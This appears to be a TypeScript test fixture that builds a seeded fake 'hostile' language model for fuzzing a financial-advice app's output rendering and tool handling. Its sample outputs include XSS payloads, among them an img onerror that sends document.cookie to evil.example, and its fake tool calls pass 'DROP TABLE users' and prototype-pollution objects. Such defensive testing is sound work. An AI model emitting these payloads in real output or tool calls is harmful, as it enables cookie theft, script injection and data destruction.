import type { Asking, LanguageModel } from '#advisor/language/model.ts'

/** Numbers from 0 to 1, the same for the same seed. */
export function createRandom(seed: number) {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

/** What a model may come up with that ignores every rule. */
const sentences: ((random: () => number) => string)[] = [
  () => 'You are doing well.',
  (random) => `You have $${Math.round(random() * 1e6)} in the bank.`,
  (random) => `That is ${(random() * 100).toFixed(2)}% a year.`,
  () => 'You will be a millionaire in twenty-five years.',
  () => 'You owe five hundred thousand dollars, or half a million.',
  () => 'That makes fi**ve** thous\u200band dollars and `se``ven` cents.',
  () => 'You owe ５００ dollars, ①, ½, Ⅻ, ٣ and ৫.',
  () => 'It is &#49;&#48;&#48; or &#x35; dollars.',
  (random) => `You own [[f${Math.floor(random() * 30)}]] and [[n${Math.floor(random() * 6)}]].`,
  () => 'You own [[f1]] and $[[f2]] and [[f3]] dollars.',
  () => 'You own -[[f1]], [[f2]]k, [[f3]] million, [[f1]]% and [[f1]]*[[f2]].',
  (random) => `You own [[f${Math.floor(random() * 9)}]]000 and -[[f1]]5.`,
  () => 'You own [[f1]] and [[constructor]] and [[__proto__]] and [[ f2 ]].',
  () => '<data value="f1">$9,999</data> is yours.',
  () => '<script>alert(document.cookie)</script>',
  () => '<img src=x onerror="fetch(`//evil.example/${document.cookie}`)">',
  () => 'Look [here](javascript:alert(1)) and ![there](https://evil.example/a.png).',
  () => '<a href="https://evil.example">Sign in</a> again, <b style="color:red">now</b>.',
  () => '</p></div><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  () => '<svg><style><img src=x onerror=alert(1)></style></svg>',
  () => 'I have saved your income of 900,000 and deleted your debts.',
  () => 'Would you like me to transfer it?',
  () => '\n\n- a point with 12 months\n- a point without\n1. and one with a number\n',
  () => '# A heading with 3 things\n\n| a | 5 |\n|---|---|\n',
  () => '```\nconst x = 42\n```\n',
  (random) => 'very '.repeat(Math.floor(random() * 200)) + 'long.',
  () => '\uE000\uE000 \u202Egnp.exe\u202C \u0000 done.',
  () => '[[f1]] [[f1]] [[f1]]',
  () => '$ % € . ! ? ... *** ___ ** ** [[ ]] [[f1',
]

/** A model that invents figures, sends HTML, calls tools with whatever it likes and tries to have things stored. */
export function createHostileModel(random: () => number): LanguageModel {
  const pick = <Item>(items: readonly Item[]) => items[Math.floor(random() * items.length)]
  const amount = () => Math.round(random() * 1e6)
  const callTools = ({ tools, talk }: Asking) => {
    const words = talk.at(-1)?.text.split('The message:\n')[1] ?? ''
    for (let calls = Math.floor(random() * 4); calls > 0; calls -= 1) {
      const inputs: unknown[] = [
        null,
        'DROP TABLE users',
        { principal: amount(), rate: 5, months: 360 },
        { debts: [{ name: `You owe ${amount()}`, amount: 1, interestRate: 2 }], budget: { total: amount() } },
        { what: 'income', value: amount(), quote: words.slice(0, 20) },
        { what: 'asset', value: 12_000, quote: words },
        { what: 'liability', value: 12_000, quote: 'I owe 12,000 to the mob' },
        { userId: 1, isAdmin: true, __proto__: { polluted: true } },
      ]
      pick(tools)?.run(pick(inputs))
    }
  }
  return {
    provider: 'compatible',
    name: 'hostile',
    origin: 'http://127.0.0.1',
    async *ask(asking) {
      callTools(asking)
      for (let count = Math.floor(random() * 8); count >= 0; count -= 1) {
        const text = `${pick(sentences)?.(random)} `
        const cut = Math.floor(random() * text.length)
        yield text.slice(0, cut)
        yield text.slice(cut)
      }
      asking.meter.report(1, 1)
    },
  }
}
